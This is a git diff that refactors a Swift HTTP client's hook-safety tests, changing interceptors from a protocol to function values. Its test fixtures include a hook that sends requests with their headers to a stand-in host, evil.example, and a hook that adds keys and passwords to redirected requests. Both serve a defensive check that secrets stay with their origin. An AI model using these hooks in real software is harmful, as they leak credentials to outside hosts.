@@ -7,29 +7,29 @@ import Testing
 
 /// Hooks can't send secrets to another origin, or disguise their own failures as the request's.
 @Suite struct HookSafetyTests {
-    private struct Stamping: Interceptor {
-        func intercept(_ request: EncodedRequest, next: Attempt) async throws -> TransportResponse {
+    private struct Stamping: Sendable {
+        func intercept(_ request: EncodedRequest, next: Next) async throws -> TransportResponse {
             var stamped = request
             stamped.headers[.authorization] = "Bearer S"
             return try await next(stamped)
         }
     }
 
-    private struct Hijacking: Interceptor, Authorizer {
+    private struct Hijacking: Authorizer {
         func evil(_ request: EncodedRequest) throws -> EncodedRequest {
             EncodedRequest(method: .get, url: try RequestURL("https://evil.example/"), headers: request.headers)
         }
 
         func authorize(_ request: inout EncodedRequest) async throws { request = try evil(request) }
 
-        func intercept(_ request: EncodedRequest, next: Attempt) async throws -> TransportResponse {
+        func intercept(_ request: EncodedRequest, next: Next) async throws -> TransportResponse {
             try await next(evil(request))
         }
     }
 
-    private struct Retargeting: Interceptor {
+    private struct Retargeting: Sendable {
         let target: String
-        func intercept(_ request: EncodedRequest, next: Attempt) async throws -> TransportResponse {
+        func intercept(_ request: EncodedRequest, next: Next) async throws -> TransportResponse {
             var changed = request
             changed.target = target
             return try await next(changed)
@@ -45,16 +45,16 @@ import Testing
     @Test("a field that an interceptor adds is not sent to another origin")
     func stampsStayBehind() async throws {
         let site = site
-        site.setRules { $0.interceptors = [Stamping()] }
+        site.setRules { $0.interceptors = [Stamping().intercept] }
         try await site["away"].get().requireSuccess()
         #expect(transport.requests.map { $0.headers[.authorization] } == ["Bearer S", nil])
     }
 
     /// Adds credentials in every part of a request, like a hook that ignores redirects.
-    private struct Spilling: Interceptor {
+    private struct Spilling: Sendable {
         var addsBody = false
 
-        func intercept(_ request: EncodedRequest, next: Attempt) async throws -> TransportResponse {
+        func intercept(_ request: EncodedRequest, next: Next) async throws -> TransportResponse {
             var changed = request
             changed.target += request.target.utf8.contains(UInt8(ascii: "?")) ? "&key=S" : "?key=S"
             if addsBody { changed.body = .bytes(ByteChunk("password=S")) }
@@ -71,7 +71,7 @@ import Testing
             default: .text("ok")
             }
         }
-        let site = Resource("https://a.example", transport: transport) { $0.interceptors = [Spilling()] }
+        let site = Resource("https://a.example", transport: transport) { $0.interceptors = [Spilling().intercept] }
         try await site["away"].get().requireSuccess()
         #expect(transport.requests.map(\.request.target) == ["/away?key=S", "/back?x=1", "/home"])
     }
@@ -82,7 +82,7 @@ import Testing
             request.path == "/away" ? .response(.found, headers: [.location: "https://b.example/x"]) : .text("ok")
         }
         let site = Resource("https://a.example", transport: transport) {
-            $0.interceptors = [Spilling(addsBody: true)]
+            $0.interceptors = [Spilling(addsBody: true).intercept]
         }
         let error = try await failure { try await site["away"].get() }
         #expect(error.code == .redirectRefused)
@@ -100,7 +100,7 @@ import Testing
             if isAuthorizer {
                 site.setRules { $0.authorizers = [.custom(Hijacking()), .bearer("S")] }
             } else {
-                site.setRules { $0.interceptors = [Hijacking()] }
+                site.setRules { $0.interceptors = [Hijacking().intercept] }
             }
             site.setRules { $0.headers["X-Api-Key"] = "K" }
             await #expect(throws: CumulusError.self) { _ = try await site["x"].get() }
@@ -111,7 +111,7 @@ import Testing
     @Test("a target that a hook changes must remain valid", arguments: ["@evil.example/x", "http://other/x", ""])
     func targetsStartWithASlash(target: String) async {
         let site = site
-        site.setRules { $0.interceptors = [Retargeting(target: target)] }
+        site.setRules { $0.interceptors = [Retargeting(target: target).intercept] }
         do {
             _ = try await site.get()
             Issue.record("it was sent")
@@ -124,7 +124,7 @@ import Testing
     @Test func preflightsAndInterceptorsStayBehindALinkToAnotherOrigin() async throws {
         let site = site
         site.setRules {
-            $0.interceptors = [Stamping()]
+            $0.interceptors = [Stamping().intercept]
             $0.preflights = [{ $0.headers["X-Api-Key"] = "K" }]
         }
         try await site.follow("https://b.example/").get().requireSuccess()
@@ -206,8 +206,8 @@ import Testing
 
     @Test("a hook that sends requests which run the same hook ends with an error", .timeLimit(.minutes(10)))
     func endlessHooks() async throws {
-        struct Endless: Interceptor, Authorizer {
-            func intercept(_ request: EncodedRequest, next: Attempt) async throws -> TransportResponse {
+        struct Endless: Authorizer {
+            func intercept(_ request: EncodedRequest, next: Next) async throws -> TransportResponse {
                 try await request.resource?["token"].get().requireSuccess()
                 return try await next(request)
             }
@@ -216,7 +216,7 @@ import Testing
             }
         }
         for edit in [
-            { @Sendable (settings: inout Resource.Rules) in settings.interceptors = [Endless()] },
+            { @Sendable (settings: inout Resource.Rules) in settings.interceptors = [Endless().intercept] },
             { @Sendable (settings: inout Resource.Rules) in settings.authorizers = [.custom(Endless())] },
             { @Sendable (settings: inout Resource.Rules) in
                 settings.preflights = [{ try await $0.resource["token"].get().requireSuccess() }]
